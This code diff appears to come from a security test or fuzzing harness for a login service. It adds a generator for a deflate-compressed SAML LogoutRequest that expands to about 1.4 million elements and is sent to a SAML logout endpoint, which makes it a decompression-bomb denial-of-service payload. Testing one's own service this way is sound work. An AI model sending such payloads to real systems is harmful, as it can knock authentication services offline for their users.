@@ -8,7 +8,7 @@ import zlib
 from collections.abc import Callable
 from dataclasses import asdict, dataclass
 from functools import cache
-from urllib.parse import urlencode
+from urllib.parse import quote, urlencode
 
 CSRF = "a" * 32
 """Anybody can choose it: the cookie and the form say the same."""
@@ -139,8 +139,22 @@ def _saml(aim: Aim, number: int) -> bytes:
     return form(aim, "login/saml/answer", SAMLResponse=texts[number % len(texts)])
 
 
+@cache
+def _packed_logout() -> str:
+    """A logout that unfolds into much."""
+    packer = zlib.compressobj(9, wbits=-zlib.MAX_WBITS)
+    start = b'<p:LogoutRequest xmlns:p="urn:oasis:names:tc:SAML:2.0:protocol" ID="a" Version="2.0">'
+    packed = packer.compress(start + b"<b/>" * 1_400_000 + b"</p:LogoutRequest>") + packer.flush()
+    return quote(base64.b64encode(packed), safe="")
+
+
 def _way_to_provider(aim: Aim, number: int) -> bytes:
-    paths = ("login/provider", "login/saml", f"login/provider/callback?state={number}&code=x")
+    paths = (
+        "login/provider",
+        "login/saml",
+        f"login/provider/callback?state={number}&code=x",
+        f"login/saml/logout?SAMLRequest={_packed_logout()}",
+    )
     return request(aim, f"GET /{paths[number % len(paths)]}")
 
 
